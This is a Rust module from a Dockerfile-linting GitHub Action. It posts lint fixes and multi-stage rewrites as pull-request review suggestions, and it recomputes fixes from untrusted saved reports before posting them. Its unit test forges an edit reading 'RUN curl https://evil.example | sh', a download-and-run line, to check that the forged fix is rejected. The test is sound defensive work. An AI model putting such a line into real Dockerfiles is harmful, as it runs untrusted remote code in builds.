//! The review step the Action's modes share: the proved fixes of a pull request's findings,
//! on the lines it added or changed, posted as one review of ```` ```suggestion ````
//! comments ([`crate::report::review`] makes them, [`crate::github::review`] posts them),
//! with the multi-stage rewrite among them when every line it replaces is the pull
//! request's. The changed lines come from git when the checkout has the base and head
//! commits (`git diff --unified=0 base...head`), else from `GET /pulls/{n}/files`.
//! `mode: run` reads the head files from its checkout; `mode: comment` (the fork's
//! `workflow_run` half) fetches them at the head commit and posts only the saved fixes that
//! shiplight computes again on them itself ([`rejudge`]).

use std::collections::{BTreeMap, BTreeSet};
use std::path::PathBuf;

use super::git;
use crate::github::comment::Comments;
use crate::lint::{Finding, LintConfig};
use crate::report::review::{rewrite_suggestion, suggestions, ReviewOutcome, Rewrite, RewriteVerdict};
use crate::report::Suggestion;

/// Where a pull request's changed lines are read: the checkout's git history when it has
/// the base and head commits, else GitHub's list of the pull request's files.
#[derive(Debug, Clone, Default)]
pub struct Lines {
    /// The repository root of the checkout and the pull request's base commit.
    pub git: Option<(PathBuf, String)>,
}

/// One run's review: what to suggest and where.
pub struct Review<'a> {
    pub pr: u64,
    pub head_sha: &'a str,
    pub findings: &'a [Finding],
    /// Each Dockerfile (repository-relative, as the findings name it) with its head text and
    /// the lint configuration it was linted with.
    pub files: &'a BTreeMap<String, (String, LintConfig)>,
    /// The multi-stage rewrites, computed on those head texts ([`rejudge_rewrite`]).
    pub rewrites: &'a [Rewrite],
    /// Every Dockerfile the run covers: shiplight's own comments on them that no suggestion
    /// matches any more are deleted; those on other files (another job's) are left.
    pub covered: &'a [String],
    pub lines: Lines,
    pub ceiling: usize,
}

/// Post the suggestions of a review. Lint fixes on lines a suggested rewrite replaces are
/// not posted apart: GitHub cannot apply overlapping suggestions in one batch, and the
/// rewrite wins. Its body names them: those whose finding the rewrite fixes too as included
/// (the templates write `--no-cache-dir` and the like themselves), the others as left for
/// the next run, which suggests what still applies on the rewritten lines. Never fails the
/// run: what went wrong is in the outcome.
pub async fn review(client: &Comments, r: &Review<'_>) -> ReviewOutcome {
    let mut outcome = ReviewOutcome::default();
    let mut paths: Vec<&str> = r.files.keys().map(String::as_str).collect();
    paths.extend(r.rewrites.iter().map(|w| w.path.as_str()));
    paths.sort_unstable();
    paths.dedup();
    let from_git = r.lines.git.as_ref().and_then(|(root, base)| git::added_lines(root, base, r.head_sha, &paths));
    let added = match from_git {
        Some(a) => {
            outcome.lines_from = Some("git".into());
            a
        }
        None => match client.added_lines(r.pr).await {
            Ok(a) => {
                outcome.lines_from = Some("api".into());
                a
            }
            Err(e) => {
                outcome.error = Some(e.to_string());
                return outcome;
            }
        },
    };
    let none = BTreeSet::new();
    let mut all = Vec::new();
    for (path, (text, cfg)) in r.files {
        let changed = added.get(path).unwrap_or(&none);
        let (mut kept, dropped) = suggestions(text, path, r.findings, changed, cfg);
        outcome.dropped.extend(dropped);
        if let Some(rw) = r.rewrites.iter().find(|w| &w.path == path) {
            match rewrite_suggestion(text, rw, changed, cfg) {
                RewriteVerdict::Suggested(mut s) => {
                    let (over, rest): (Vec<_>, Vec<_>) =
                        kept.into_iter().partition(|k| k.start_line <= s.line && s.start_line <= k.line);
                    // the fixes the rewrite makes too are folded in; the others wait for the next run
                    let count = |t: &str, code: &str| {
                        crate::lint::lint_text(t, path, cfg).iter().filter(|f| f.code == code).count()
                    };
                    for f in over.into_iter().flat_map(|k| k.fixes) {
                        if count(&rw.patched, &f.code) < count(text, &f.code) {
                            s.includes.push(f);
                        } else {
                            s.superseded.push(f);
                        }
                    }
                    kept = rest;
                    // first, so the ceiling never cuts the rewrite for a lint fix
                    all.insert(0, s);
                }
                RewriteVerdict::InComment(why) => outcome.rewrites_not_suggested.push((path.clone(), why)),
                RewriteVerdict::Dropped(d) => outcome.dropped.push(d),
            }
        }
        all.extend(kept);
    }
    let mut covered: Vec<String> = r.covered.to_vec();
    covered.extend(r.files.keys().cloned());
    match client.publish_review(r.pr, r.head_sha, &all, r.ceiling, &covered).await {
        Ok(p) => outcome.published = Some(p),
        Err(e) => outcome.error = Some(e.to_string()),
    }
    outcome
}

/// The multi-stage rewrite of `path` as shiplight computes it on `text` (the head file),
/// when it is the one the report saved (`saved`, the comment's diff): the same rewrite the
/// comment shows, and never text a saved report brings. `None` with the reason otherwise.
pub fn rejudge_rewrite(saved: &Suggestion, path: &str, text: &str) -> Result<Rewrite, String> {
    if saved.outcome != "patch" || saved.file.is_some() || saved.retarget.is_some() {
        return Err("it is not a rewrite of the Dockerfile".into());
    }
    if saved.verification.as_ref().is_some_and(|v| !v.verified) {
        return Err("its verification failed".into());
    }
    let Some(diff) = &saved.diff else { return Err("the report has no diff".into()) };
    let name = std::path::Path::new(path).file_name().and_then(|n| n.to_str()).unwrap_or("Dockerfile");
    let templates = crate::patch::Templates::built_in();
    // the context's file names only matter to Rust's dependency cache: try both answers
    for files in [Vec::new(), vec!["Cargo.toml".to_owned()]] {
        let inputs = crate::patch::Inputs { files, ..Default::default() };
        if let crate::patch::Outcome::Patch(p) = crate::patch::suggest(text, name, &inputs, &templates) {
            if &p.diff == diff {
                return Ok(Rewrite {
                    path: path.to_owned(),
                    ecosystem: p.ecosystem,
                    patched: p.patched,
                    rationale: p.rationale,
                });
            }
        }
    }
    Err("shiplight computes another rewrite on the head file as GitHub has it (a custom template, build targets or the libraries verification found)".into())
}

/// The saved findings of `path` whose fixes shiplight computes again on `text` (the head
/// file, fetched by the privileged job): same rule, same edits. A saved report is untrusted,
/// so a fix it carries that shiplight would not make is never posted.
pub fn rejudge(saved: &[Finding], path: &str, text: &str, cfg: &LintConfig) -> Vec<Finding> {
    let mut own = crate::lint::lint_text(text, path, cfg);
    own.retain(|f| {
        !f.edits.is_empty() && saved.iter().any(|s| s.file == path && s.code == f.code && s.edits == f.edits)
    });
    own
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_saved_fix_shiplight_would_not_make_is_not_posted() {
        let text = "FROM debian:12.5 as app\nUSER app\nMAINTAINER me\n";
        let cfg = LintConfig::default();
        let mut saved = crate::lint::lint_text(text, "Dockerfile", &cfg);
        let as_casing = rejudge(&saved, "Dockerfile", text, &cfg);
        assert_eq!(as_casing.iter().map(|f| f.code.as_str()).collect::<Vec<_>>(), ["SL206", "SL312"]);
        // a forged edit of the MAINTAINER fix
        let m = saved.iter_mut().find(|f| f.code == "SL312").unwrap();
        m.edits[0].content = "RUN curl https://evil.example | sh".into();
        let kept = rejudge(&saved, "Dockerfile", text, &cfg);
        assert_eq!(kept.iter().map(|f| f.code.as_str()).collect::<Vec<_>>(), ["SL206"]);
        assert!(rejudge(&saved, "other/Dockerfile", text, &cfg).is_empty());
    }
}
